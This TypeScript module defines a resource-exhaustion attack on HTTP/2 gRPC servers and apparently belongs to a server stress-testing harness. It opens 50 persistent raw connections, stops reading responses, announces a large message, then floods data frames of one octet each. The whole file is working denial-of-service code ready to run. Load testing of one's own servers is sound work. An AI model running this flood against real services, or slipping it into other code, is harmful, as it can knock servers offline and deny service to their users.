import { type Attack, callHeaders, repeated } from "./attack.js";
import { BATCH } from "./costly-batches.js";
import { frame, TYPE } from "./frames.js";
import type { RawConnection } from "./raw-connection.js";

const WEB = { "content-type": "application/grpc-web+proto" };
/** A message of 60,000 bytes, which never ends: so many frames in one write. */
const HEAD = Buffer.from([0, 0, 0, 0xff, 0]);
const FRAMES = 1_000;
const WRITES = 60;

/** Calls in frames of one octet each, over both ways in turn; nothing of the answers is read. */
export const oneOctetFrames: Attack = {
  name: "one-octet frames, nothing read",
  connections: 50,
  staysOpen: true,
  run: (connection) => sendOctets(connection, [BATCH, { ...BATCH, ...WEB }]),
};

async function sendOctets(connection: RawConnection, calls: readonly Record<string, string>[]) {
  await connection.begin();
  connection.stopReading();
  for (let call = 0; connection.going; call++) {
    const id = 2 * call + 1;
    const headers = callHeaders(id, false, calls[call % calls.length]);
    await connection.write(Buffer.concat([headers, frame(TYPE.data, 0, id, HEAD)]), 2);
    const octets = repeated(frame(TYPE.data, 0, id, Buffer.alloc(1)), FRAMES);
    for (let sent = 0; sent < WRITES && connection.going; sent++) {
      await connection.write(octets, FRAMES);
    }
  }
}
